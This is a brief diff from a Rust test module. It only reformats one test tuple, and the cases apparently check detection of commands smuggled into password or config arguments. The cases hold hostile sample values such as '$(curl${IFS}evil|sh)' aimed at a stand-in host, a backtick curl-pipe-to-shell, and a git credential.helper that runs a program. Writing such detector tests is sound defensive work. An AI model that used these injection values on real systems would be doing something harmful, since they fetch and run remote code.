@@ -3737,7 +3737,10 @@ mod tests {
             ("TOKEN=\n/tmp/evil.sh", "/tmp/evil.sh"),
             ("x=--pass /tmp/evil.sh", "/tmp/evil.sh"),
             ("mysql -u root -p/tmp/evil.sh", "/tmp/evil.sh"),
-            ("mysql -u x -p$(curl${IFS}evil|sh) db", "$(curl${IFS}evil|sh)"),
+            (
+                "mysql -u x -p$(curl${IFS}evil|sh) db",
+                "$(curl${IFS}evil|sh)",
+            ),
             ("sshpass -p `curl evil|sh` ssh h", "`curl evil|sh`"),
             (
                 "git -c credential.helper=!/tmp/x/evil fetch",
